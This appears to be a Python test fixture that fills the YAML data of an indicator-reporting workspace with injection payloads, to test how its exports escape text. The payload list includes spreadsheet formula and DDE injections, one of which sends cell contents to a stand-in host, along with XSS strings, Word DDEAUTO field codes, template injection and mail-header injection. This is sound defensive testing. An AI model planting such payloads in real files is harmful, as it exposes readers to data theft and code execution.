"""A workspace in which every text that somebody writes carries an attack on whoever opens what is made of it.

Convention: `Attacker` hands out the attacks in turn, so that each field gets another one in each turn, and within one
workspace all are there. A text ends in its own number: what was lost or cut on the way is missed.
"""

import json
from datetime import date
from pathlib import Path

from workspaces import Workspace

ATTACKS = (
    # Formulas of spreadsheets: each sign they begin with, DDE, and what fetches or sends something.
    '=HYPERLINK("http://x.example/?"&A1,"xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '\t=WEBSERVICE("http://x.example")',
    "{=1+1}",
    # HTML: elements, attributes, addresses, styles, pictures.
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "</title></style></script></textarea><svg onload=alert(1)>",
    "</style><style>@import 'http://x.example';body{display:none}",
    "<a href=javascript:alert(1)>x</a><iframe srcdoc='<script>1</script>'></iframe>",
    "<svg><animate onbegin=alert(1) /><use href='data:image/svg+xml,x#x'/></svg>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=http://x.example'><base href='http://x.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "javascript:alert(1)",
    '</script><script>{"a":1}//',
    # Markdown: links, pictures, HTML, tables, headings, code, autolinks, footnotes.
    "[xem](http://x.example) ![](http://x.example/p.png)",
    "<http://x.example> <b>x</b>",
    "| a | b |\n| --- | --- |\n| c | d |",
    "# Tiêu đề\n\n---\n\n> trích\n\n- mục",
    "```\n</details>\n```",
    "[x]: http://x.example\n\n[x] [^1]",
    "`x` **x** _x_ ~~x~~ $x$ \\",
    # Word: field codes, and the XML of a run.
    '{ INCLUDETEXT "http://x.example" } { DDEAUTO c:\\\\windows\\\\cmd "/k calc" }',
    "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:t>",
    '<w:fldSimple w:instr="DDEAUTO cmd"/>',
    # Templates.
    "{{ 7 * 7 }}{% for x in range(99999999) %}{% endfor %}{# x #}",
    "{{r report }}{%p if x %}",
    '&"Arial"&K000000&G&D&P',
    # Mail and calendars: lines of their own, encoded words.
    "x\nBcc: x@x.example\n\n<b>x</b>",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:http://x.example\\nX:1;x=y,z",
    "=\u200b?utf-8?q?x=0ABcc=3A_x=40x.example?=",
    # Terminals and build servers.
    "[bold red]x[/] [link=http://x.example]x[/link] :smile:",
    "x\n::error file=x::y\n##[error]z",
    "%s %n {0} {0.__class__} %(x)s $(id) `id`",
    "\ufeffx\u200b\u200fx\u2028x\u00adx",
)
"""What a field may hold: control characters and those that turn the direction of writing are refused by `check`."""
MARK = "§"
"""Stands with a number at the end of each attack."""
TODAY = date(2022, 9, 16)


class Attacker:
    """Hands out attacks, one after another, each with its number."""

    def __init__(self, turn: int, *, harmless: bool = False) -> None:
        self._next = turn
        self._harmless = harmless
        self.given: dict[int, str] = {}

    def text(self) -> str:
        """Return the next attack."""
        attack = "Chữ" if self._harmless else ATTACKS[self._next % len(ATTACKS)]
        self._next += 7
        number = len(self.given) + 1
        self.given[number] = f"{attack} {MARK}{number}{MARK}"
        return self.given[number]

    def line(self) -> str:
        """Return it as YAML."""
        return json.dumps(self.text(), ensure_ascii=False)

    def wording(self) -> str:
        """Return two of them as YAML, in Vietnamese and English."""
        return f"{{vi: {self.line()}, en: {self.line()}}}"


def make_attacked(root: Path, turn: int, *, harmless: bool = False) -> tuple[Workspace, Attacker]:
    """Write a workspace whose every text is an attack; `harmless`, the same one with plain words in their places."""
    by = Attacker(turn, harmless=harmless)
    store = Workspace(root, "id: x\nmeasure: {kind: value, basis: at_date}")
    write_catalogue(store, by)
    write_units(store, by)
    store.write(
        "data/settings.yaml",
        f"format: 1\nnotice: {by.wording()}\n"
        f"office: {{place: {by.wording()}, signer: {by.wording()}, drafter: {by.line()}}}\n",
    )
    store.write("data/holidays.yaml", f"format: 1\noff: [{{day: 2022-09-12, name: {by.wording()}}}]\n")
    write_submissions(store, by)
    return store, by


def write_catalogue(store: Workspace, by: Attacker) -> None:
    """Write a catalogue with two programmes, one indicator of each kind, a rule, and texts wherever they may stand."""
    w, line = by.wording, by.line
    rounds = "\n".join(
        f"      - {{period: {period}, before: {before}, frequencies: [quarter, year], wording: {line()}}}"
        for period, before in (
            ("2022-Q2", "2022-06-20"),
            ("2022-Q3", "2022-09-20"),
            ("2022-Q4", "2022-12-20"),
        )
    )
    head = f"    authority: city\n    focal_point: dic\n    report_to: [city]\n    source: s\n    rounds:\n{rounds}\n"
    common = "pillar: g, frequency: quarter, lead: so-a, coordinating: [so-b]"
    target = "programme: p, by: 2022-12-31, source: s"
    store.write(
        "data/indicators.yaml",
        f"format: 1\ndefault_programme: p\n"
        f"sources:\n"
        f"  s: {{number: {line()}, issued: 2022-01-04, issuer: {line()}, title: {w()}, url: {line()}, note: {w()}}}\n"
        f"pillars: {{g: {w()}}}\n"
        f"programmes:\n  p:\n    name: {w()}\n{head}"
        f"  q:\n    name: {w()}\n{head}"
        f"indicators:\n"
        f"- {{id: share, name: {w()}, {common}, reporters: ['level:department', 'level:district'],\n"
        f"   measure: {{kind: ratio, numerator: {w()}, denominator: {w()}, things: {{vi: {line()}, en: {line()}, "
        f"en_one: {line()}}}, basis: at_date, methods: {{m: {w()}}}}},\n"
        f"   frequency_note: {w()}, excludes: {w()}, note: {w()},\n"
        f"   baselines: [{{period: 2021, value: 10, source: {w()}}}],\n"
        f"   related: [{{indicator: amount, differs: scope, note: {w()}}}],\n"
        f"   targets: [{{{target}, number: 1, at_least: 90, wording: {w()}, condition: {w()}, note: {w()}}},\n"
        f"             {{programme: q, by: 2023-12-31, number: 1, at_least: 95, wording: {w()}}}]}}\n"
        f"- {{id: amount, name: {w()}, {common}, reporters: [so-a, so-b], measure: {{kind: value, basis: in_period, "
        f"counted_in: {line()}}},\n"
        f"   targets: [{{{target}, number: 2, increase: {{by: 10, as: percent, over: 2021}}, wording: {w()}}}],\n"
        f"   baselines: [{{period: 2021, value: 100, source: {w()}}}]}}\n"
        f"- {{id: calls, name: {w()}, {common}, reporters: ['level:district'], measure: {{kind: roll_call, basis: "
        f"at_date}},\n   targets: [{{{target}, number: 3, at_least: 100, wording: {w()}}}]}}\n"
        f"- {{id: portal, name: {w()}, {common}, measure: {{kind: milestone, basis: at_date}},\n"
        f"   targets: [{{{target}, number: 4, done: true, wording: {w()}, note: {w()}}}]}}\n"
        f"- {{id: place, name: {w()}, {common}, measure: {{kind: rank, basis: at_date}},\n"
        f"   targets: [{{{target}, number: 5, at_most: 5, aspirational: true, wording: {w()}}}]}}\n"
        f"rules:\n"
        f"- {{id: r, message: {w()}, instruction: {w()}, left: {{expression: amount.value, name: {w()}}}, operator: "
        f"'<', right: {{expression: '5', name: {w()}}}, severity: warning}}\n",
    )


def write_units(store: Workspace, by: Attacker) -> None:
    """Write a registry: the city, the office that collects, two departments, two districts, one that is no more."""
    units = ""
    for unit, more in (
        ("city", "level: province"),
        ("dic", "level: agency, parent: city"),
        ("so-a", "level: department, parent: city"),
        ("so-b", "level: department, parent: city"),
        ("so-old", "level: department, parent: city, valid: {until: 2022-07-31}, successors: [so-b]"),
        ("quan-1", "level: district, parent: city, members: 10"),
        ("quan-3", "level: district, parent: city, members: 12"),
    ):
        units += (
            f"- {{id: {unit}, name: {by.wording()}, abbreviation: {by.line()}, code: {by.line()}, note: {by.wording()},"
            f" email: [{unit}@hcm.example], {more}}}\n"
        )
    store.write("data/units.yaml", f"format: 1\nunits:\n{units}")


def write_submissions(store: Workspace, by: Attacker) -> None:
    """Write submissions with every kind of answer, decisions, a later deadline, a closing and its opening."""
    t = by.line

    def submit(
        unit: str, entries: str, at: str = "2022-09-15T10:00:00+07:00", period: str = "2022-Q3"
    ) -> None:
        path = store.submit(period, unit, entries, at=at)
        head = (
            f"document: {t()}\nnote: {t()}\n"
            f"prepared_by: {{name: {t()}, title: {t()}, phone: {t()}, email: a@hcm.example}}\n"
        )
        text = path.read_text(encoding="utf-8").replace("\nentries:", f"\n{head}entries:")
        behalf = f"received_at: {at}, on_behalf_of: {{by: {t()}, reason: {t()}}}, warnings: [{t()}]"
        path.write_text(text.replace(f"received_at: {at}", behalf), encoding="utf-8", newline="")

    share = f"share: {{numerator: 1, denominator: 2, method: m, source: {t()}, note: {t()}}}"
    submit("so-old", share, "2022-06-15T10:00:00+07:00", "2022-Q2")
    submit("so-a", f"{share}\namount: {{value: 4}}", "2022-06-15T10:00:00+07:00", "2022-Q2")
    submit("so-a", f"{share}\namount: {{value: 3, note: {t()}}}", "2022-09-14T10:00:00+07:00")
    submit(
        "so-a",
        f"{share}\namount: {{value: 7, status: provisional, source: {t()}, note: {t()}}}\n"
        f"portal: {{done: false, note: {t()}}}\nplace: {{unavailable: {t()}, expected_on: 2022-10-05, note: {t()}}}",
    )
    submit(
        "so-b",
        f"share: {{nil: {t()}}}\namount: {{not_applicable: {t()}, note: {t()}}}",
        "2022-09-22T10:00:00+07:00",
    )
    submit(
        "quan-1",
        f"share: {{numerator: 3, denominator: 9, method: m, note: {t()}}}\n"
        f"calls: {{done: true, members_done: 8, members_not_done: [{t()}, {t()}], note: {t()}}}",
    )
    for number, decision in ((1, "returned"), (2, "accepted")):
        write_review(store, by, "so-a", number, decision, f"2022-09-1{number + 4}T18:00:00+07:00")
    write_review(store, by, "quan-3", 0, "excluded", "2022-09-16T18:00:00+07:00")
    store.write(
        "data/extensions/2022-Q3/so-b.yaml",
        f"format: 1\nunit: so-b\nperiod: 2022-Q3\nuntil: 2022-09-21\ngranted_by: {t()}\n"
        f"granted_on: 2022-09-10\nreason: {t()}\n",
    )


def write_review(store: Workspace, by: Attacker, unit: str, revision: int, decision: str, at: str) -> None:
    """Write a decision, by whom and why."""
    store.write(
        f"data/reviews/2022-Q3/{unit}.r{revision}.yaml",
        f"format: 1\nunit: {unit}\nperiod: 2022-Q3\nrevision: {revision}\ndecision: {decision}\n"
        f"by: {by.line()}\nat: {at}\nreason: {by.line()}\n",
    )
